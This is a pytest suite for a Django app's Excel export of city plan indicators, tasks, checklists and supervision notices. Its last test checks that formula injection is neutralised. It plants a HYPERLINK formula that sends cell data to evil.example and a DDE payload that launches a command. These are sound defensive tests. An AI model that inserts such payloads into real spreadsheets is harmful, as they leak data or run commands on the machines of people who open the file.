"""The Excel export, opened with openpyxl and read back."""
import io
from datetime import date

import openpyxl
import pytest

from jingzhi.org.models import Unit
from jingzhi.plans.export import task_number_sortable
from jingzhi.plans.models import Task
from jingzhi.plans.services import notice_issue

HEADER = ["任务编号", "任务", "指标", "类型", "计量单位", "方向", "目标值", "截止日期", "最新值", "截至", "数据来源",
          "应达值", "完成度（%）", "状态", "牵头单位"]


def read_back(client, user, query=""):
    client.force_login(user)
    response = client.get("/plans/export.xlsx" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    return rows[0], {row[2]: row for row in rows[1:]}, rows[1:], book


def sheet_rows(book, title):
    return list(book[title].iter_rows(values_only=True))


def as_date(value):
    return value.date() if value else None


def test_one_row_per_indicator_with_the_figures(progress, client, people):
    header, by_name, rows, book = read_back(client, people["leader"])
    assert list(header) == HEADER
    assert book.sheetnames == ["指标进度", "任务", "工作要求", "督办", "说明"]
    assert [row[2] for row in rows] == ["新建公厕", "一类公厕比例", "人行道积尘", "老旧小区整治比例", "新建公共停车泊位"]
    toilets = by_name["新建公厕"]
    assert toilets[:6] == ("01", "公厕建设", "新建公厕", "累计完成", "座", "不低于")
    assert (toilets[6], as_date(toilets[7]), toilets[8], as_date(toilets[9]), toilets[10]) == (
        1210, date(2018, 12, 31), 850, date(2018, 9, 20), "市城管局填报")
    # expected 1210 × 181 / 273 = 802.23 → 803 whole toilets; completion 850 / 1210 = 70.25 %
    assert (toilets[11], toilets[12], toilets[13], toilets[14]) == (803, pytest.approx(70.25), "正常推进", "市城管局")
    assert by_name["一类公厕比例"][13] == "已完成"
    old = by_name["老旧小区整治比例"]
    assert (old[11], old[13], old[14]) == (pytest.approx(13.26), "滞后", "市园林局")
    # A maintained cap: expected 15 from the start, no value yet.
    assert by_name["人行道积尘"][3] == "保持水平"
    assert by_name["人行道积尘"][8:14] == (None, None, None, 15, 0, "未开始")
    assert by_name["新建公共停车泊位"][0] == "03(2)"
    assert as_date(book["说明"]["B3"].value) == date(2018, 9, 30)


def test_every_task_checklist_item_and_notice(progress, client, people):
    notice_issue(user=people["office"], task=Task.objects.get(number="2"), to_unit=Unit.objects.get(name="市园林局"),
                 text="请说明滞后原因", reply_due=date(2018, 10, 8), on=date(2018, 9, 30))
    _, _, _, book = read_back(client, people["leader"])
    tasks = sheet_rows(book, "任务")
    assert tasks[0][:4] == ("任务编号", "行动", "任务", "上级任务")
    # Every task, also 3 and 3(1) without figures; padded numbers sort in the plan's order.
    assert [row[0] for row in tasks[1:]] == ["01", "02", "03", "03(1)", "03(2)"]
    assert sorted(row[0] for row in tasks[1:]) == [row[0] for row in tasks[1:]]
    by_number = {row[0]: row for row in tasks[1:]}
    assert by_number["03(1)"][1:7] == ("序化", "动态交通", "03", "市公安局", None, 0)  # an empty cell
    assert by_number["01"][5] == "市园林局、各区（管委会）" and by_number["01"][7] == "0/1"
    assert (by_number["01"][8], by_number["01"][9]) == (pytest.approx(42.6), "正常推进")
    checklist = sheet_rows(book, "工作要求")
    assert [(row[0], row[2], row[4]) for row in checklist[1:]] == [
        ("01", "完善公厕管理办法", "未开始"), ("02", "建立老旧小区数据库", "逾期"), ("03(1)", "规范交通设施", "未开始")]
    notices = sheet_rows(book, "督办")
    assert [row[:4] for row in notices[1:]] == [("02", "老旧小区", "市园林局", "请说明滞后原因")]
    assert (as_date(notices[1][4]), as_date(notices[1][5]), notices[1][6], notices[1][9]) == (
        date(2018, 9, 30), date(2018, 10, 8), "待回复", "否")
    late = sheet_rows(read_back(client, people["leader"], "?as_of=2018-10-09")[3], "督办")
    assert late[1][9] == "是"


def test_the_export_follows_the_review_date(progress, client, people):
    _, by_name, _, _ = read_back(client, people["leader"], "?as_of=2019-01-05")
    assert (by_name["新建公厕"][11], by_name["新建公厕"][13]) == (1210, "逾期")


def test_the_export_is_scoped(progress, client, people):
    notice_issue(user=people["office"], task=Task.objects.get(number="2"), to_unit=Unit.objects.get(name="市园林局"),
                 text="请说明滞后原因", reply_due=date(2018, 10, 8), on=date(2018, 9, 30))
    _, by_name, _, book = read_back(client, people["yuanlin"])
    assert set(by_name) == {"新建公厕", "一类公厕比例", "人行道积尘", "老旧小区整治比例"}
    assert [row[0] for row in sheet_rows(book, "任务")[1:]] == ["01", "02"]
    _, _, _, book = read_back(client, people["jinshui"])
    assert [row[0] for row in sheet_rows(book, "任务")[1:]] == ["01", "03", "03(2)"]
    assert len(sheet_rows(book, "督办")) == 1  # the header: the notice is on a task 金水区 has no part in


@pytest.mark.parametrize(("number", "sortable"), [("1", "01"), ("9", "09"), ("9(1)", "09(1)"), ("14(2)", "14(2)"),
                                                  ("20", "20")])
def test_task_numbers_are_padded_to_sort(number, sortable):
    assert task_number_sortable(number) == sortable


def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(progress, client, people):
    from jingzhi.plans.models import Indicator

    hyperlink = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
    Task.objects.filter(number="1").update(title=hyperlink)
    Indicator.objects.filter(code="toilets").update(name="=1+2", unit="@SUM(A1)")
    Indicator.objects.filter(code="dust").update(name="-人行道积尘", target=-15)
    notice_issue(user=people["office"], task=Task.objects.get(number="2"), to_unit=Unit.objects.get(name="市园林局"),
                 text="=cmd|' /C calc'!A0", reply_due=date(2018, 10, 8), on=date(2018, 9, 30))
    progress.title = "+工作方案"
    progress.save()
    _, _by_name, _, book = read_back(client, people["leader"])
    sheet = book.worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "=1+2")
    for cell, written in ((row[1], hyperlink), (row[2], "=1+2"), (row[4], "@SUM(A1)")):
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", written, True)
    assert (row[6].data_type, row[6].value, row[6].quotePrefix) == ("n", 1210, False)
    dust = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "-人行道积尘")
    assert dust[2].data_type == "s" and dust[2].quotePrefix
    assert (dust[6].data_type, dust[6].value) == ("n", -15)  # a negative figure is a number, not text
    assert (book["说明"]["B1"].data_type, book["说明"]["B1"].value) == ("s", "+工作方案")
    task_row = next(r for r in book["任务"].iter_rows(min_row=2) if r[0].value == "01")
    assert (task_row[2].value, task_row[2].quotePrefix) == (hyperlink, True)
    notice = next(book["督办"].iter_rows(min_row=2))
    assert (notice[3].value, notice[3].data_type, notice[3].quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)
    assert not any(cell.data_type == "f" for ws in book.worksheets for r in ws.iter_rows() for cell in r)
